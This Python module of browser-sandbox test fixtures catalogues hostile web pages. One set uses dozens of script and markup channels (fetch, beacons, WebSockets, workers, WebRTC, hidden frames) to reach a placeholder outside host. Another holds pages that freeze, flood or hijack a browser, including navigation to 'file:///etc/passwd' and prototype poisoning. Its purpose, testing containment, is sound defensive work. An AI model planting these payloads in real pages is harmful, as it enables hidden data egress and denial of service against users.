"""Hostile pages: each channel by which a page might reach another host, and pages that try to block an episode.

`HOST` stands for the host and port outside, `OWN` for the page's own site. Each channel names itself in what it sends.
"""

REQUESTS = {
    "fetch": "fetch('http://HOST/fetch', {mode: 'no-cors'})",
    "fetch-keepalive": "fetch('http://HOST/fetch-keepalive', {mode: 'no-cors', keepalive: true, method: 'POST'})",
    "xhr": "(() => { const x = new XMLHttpRequest(); x.open('POST', 'http://HOST/xhr'); x.send('x'); })()",
    "beacon": "navigator.sendBeacon('http://HOST/beacon', 'x')",
    "event-source": "new EventSource('http://HOST/event-source')",
    "web-socket": "new WebSocket('ws://HOST/web-socket')",
    "image": "new Image().src = 'http://HOST/image'",
    "audio": "new Audio('http://HOST/audio').load()",
    "import": "import('http://HOST/import')",
    "font": "new FontFace('x', 'url(http://HOST/font)').load()",
    "redirect": "fetch('OWN/redirect?http://HOST/redirect', {mode: 'no-cors'})",
    "window": "open('http://HOST/window')",
    "worker-fetch": "work(`fetch('http://HOST/worker-fetch', {mode: 'no-cors'})`)",
    "worker-import": "work(`importScripts('http://HOST/worker-import')`)",
    "worker-socket": "work(`new WebSocket('ws://HOST/worker-socket')`)",
    "shared-worker": "new SharedWorker(script(`fetch('http://HOST/shared-worker', {mode: 'no-cors'})`))",
    "worker-in-worker": "work(`new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/worker-in-worker')\"])))`)",
    "frame-in-frame": "frame(`<iframe srcdoc=\"<img src='http://HOST/frame-in-frame'>\"></iframe>`)",
    "sandboxed-frame": "frame(`<img src='http://HOST/sandboxed-frame'>`, 'allow-scripts')",
    "ping": '(() => { const a = html(\'<a href="#x" ping="http://HOST/ping">x</a>\'); a.click(); })()',
    "service-worker": "navigator.serviceWorker.register('OWN/service-worker.js')",
}
"""One line of script each."""

MARKUP = {
    "img": "<img src='http://HOST/img'>",
    "srcset": "<img srcset='http://HOST/srcset 1x'>",
    "script": "<script src='http://HOST/script'></script>",
    "module": "<script type=module src='http://HOST/module'></script>",
    "style": "<link rel=stylesheet href='http://HOST/style'>",
    "css-import": "<style>@import 'http://HOST/css-import';</style>",
    "css-image": "<style>body { background: url(http://HOST/css-image) }</style>",
    "preload": "<link rel=preload as=image href='http://HOST/preload'>",
    "prefetch": "<link rel=prefetch href='http://HOST/prefetch'>",
    "module-preload": "<link rel=modulepreload href='http://HOST/module-preload'>",
    "preconnect": "<link rel=preconnect href='http://HOST/'><link rel=dns-prefetch href='http://HOST/'>",
    "prerender": "<script type=speculationrules>"
    '{"prerender": [{"source": "list", "urls": ["http://HOST/prerender"]}]}</script>',
    "iframe": "<iframe src='http://HOST/iframe'></iframe>",
    "object": "<object data='http://HOST/object'></object>",
    "embed": "<embed src='http://HOST/embed'>",
    "video": "<video src='http://HOST/video' preload=auto></video>",
    "poster": "<video poster='http://HOST/poster'></video>",
    "svg-image": "<svg><image href='http://HOST/svg-image' width=9 height=9 /></svg>",
    "form": "<iframe name=f></iframe><form action='http://HOST/form' method=post target=f></form>"
    "<script>document.forms[0].submit()</script>",
    "refresh": "<iframe srcdoc=\"<meta http-equiv=refresh content='0; url=http://HOST/refresh'>\"></iframe>",
}

HELPERS = """
const script = (text) => URL.createObjectURL(new Blob([text], {type: "text/javascript"}));
const work = (text) => new Worker(script(text));
const html = (text) => { document.body.insertAdjacentHTML("beforeend", text); return document.body.lastElementChild; };
const frame = (text, sandbox) => {
  const one = document.createElement("iframe");
  if (sandbox) one.sandbox = sandbox;
  one.srcdoc = text;
  document.body.append(one);
};
"""

SERVICE_WORKER = "fetch('http://HOST/service-worker', {mode: 'no-cors'});"

UDP = """<title>Calls</title><body><script>
const gathered = async (urls) => {
  const call = new RTCPeerConnection({iceServers: [{urls, username: "SECRET", credential: "x"}]});
  call.createDataChannel("x");
  const complete = new Promise((done) => {
    call.onicegatheringstatechange = () => call.iceGatheringState === "complete" && done();
  });
  await call.setLocalDescription(await call.createOffer());
  await complete;
};
const peer = async (protocol) => {
  const one = new RTCPeerConnection(), other = new RTCPeerConnection();
  one.createDataChannel("x");
  await one.setLocalDescription(await one.createOffer());
  await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  await one.setRemoteDescription(other.localDescription);
  const kind = protocol === "tcp" ? " tcptype passive" : "";
  const candidate = `candidate:1 1 ${protocol} 2122260223 ADDRESS PORT typ host${kind}`;
  await one.addIceCandidate({candidate, sdpMid: "0"});
};
const transport = async () => { await new WebTransport("https://HOST/").ready; };
const servers = ["stun:HOST", "turn:HOST?transport=udp", "turn:HOST?transport=tcp", "turns:HOST?transport=tcp"];
const calls = [...servers.map(gathered), peer("udp"), peer("tcp"), transport()];
Promise.allSettled(calls).then(() => document.title = "Done");
</script>"""
"""WebRTC (STUN, TURN and a peer) and WebTransport."""


def reaching() -> str:
    """A page that tries every channel of HTTP, sockets, frames and workers, one after another."""
    lines = "\n".join(f"try {{ Promise.resolve({line}).catch(() => 0); }} catch {{}}" for line in REQUESTS.values())
    return f"<title>Greedy</title><body>{''.join(MARKUP.values())}<script>{HELPERS}{lines}</script>"


HOLDING = {
    "loop": "<title>x</title><p>x<script>while (true) {}</script>",
    "loop later": "<title>x</title><p>x<script>setTimeout(() => { while (true) {} }, 50)</script>",
    "alerts": "<script>while (true) alert('x')</script>",
    "prompts later": "<p>x<script>setInterval(() => prompt('x'), 1)</script>",
    "print": "<p>x<script>setInterval(print, 1)</script>",
    "reload": "<p>x<script>location.reload()</script>",
    "hash": "<p>x<script>setInterval(() => location.hash = Math.random(), 0)</script>",
    "history": "<p>x<script>setInterval(() => history.pushState(0, '', Math.random()), 0)</script>",
    "unload": "<p>x<script>onbeforeunload = (e) => e.preventDefault(); onpagehide = () => { while (true) {} }</script>",
    "huge page": "<p>x<script>document.body.innerHTML = '<div><a href=/x>x</a></div>'.repeat(300000)</script>",
    "deep page": "<p>x<script>let d = document.body; for (let i = 0; i < 50000; i++) "
    "{ const e = document.createElement('div'); d.append(e); d = e; }</script>",
    "wide page": "<div style='width: 99999999px; height: 99999999px; background: linear-gradient(red, blue)'>x</div>",
    "growing page": "<p>x<script>setInterval(() => document.body.append('x'.repeat(1e5)), 0)</script>",
    "long title": "<p>x<script>document.title = 'x'.repeat(1e7)</script>",
    "many windows": "<p>x<script>for (let i = 0; i < 50; i++) open('about:blank#' + i)</script>",
    "windows for ever": "<p>x<script>setInterval(() => open('/'), 1)</script>",
    "many frames": "<p>x<script>for (let i = 0; i < 300; i++) document.body.append(document.createElement('iframe'))"
    "</script>",
    "frames in frames": "<p>x<iframe src='?1'></iframe><iframe src='?2'></iframe>",
    "closes itself": "<p>x<script>close(); open('', '_self').close()</script>",
    "stops itself": "<script>stop()</script>",
    "leads to a file": "<script>location = 'file:///etc/passwd'</script>",
    "leads to a script": "<p>x<script>location = \"javascript:'<p>y'\"</script>",
    "leads to data": "<p>x<script>location = 'data:text/html,<p>y'</script>",
    "leads to a blob": "<p>x<script>location = URL.createObjectURL(new Blob(['<p>y'], {type: 'text/html'}))</script>",
    "leads to settings": "<p>x<script>location = 'chrome://settings'</script>",
    "leads nowhere": "<script>location = 'http://outside.test/'</script>",
    "leads to a port": "<p>x<script>location = 'http://127.0.0.1:1/'</script>",
    "leads to a file to download": "<script>location = '/file'</script>",
    "downloads": "<p>x<script>setInterval(() => { const a = document.createElement('a'); "
    "a.href = 'data:,x'; a.download = 'x'; a.click(); }, 5)</script>",
    "locks the pointer": "<p>x<script>document.body.requestPointerLock(); document.body.requestFullscreen()</script>",
    "asks for everything": "<p>x<script>navigator.geolocation.getCurrentPosition(() => 0); "
    "Notification.requestPermission(); navigator.mediaDevices?.getUserMedia({video: true}).catch(() => 0)</script>",
    "fonts that never load": "<style>@font-face { font-family: f; src: url(/never) } p { font: 20px f }</style><p>x",
    "style that never loads": "<link rel=stylesheet href=/never><p>x",
    "written for ever": "<p>x<script>document.open(); document.write('<p>y')</script>",
    "lies about everything": "<p>x<script>for (const o of [Document.prototype, Element.prototype, Array.prototype, "
    "Promise.prototype, Object.prototype]) for (const k of Object.getOwnPropertyNames(o)) "
    "try { o[k] = () => { while (true) {} } } catch {}</script>",
}
"""Pages that try to block an episode, or to end it with a wrong message."""
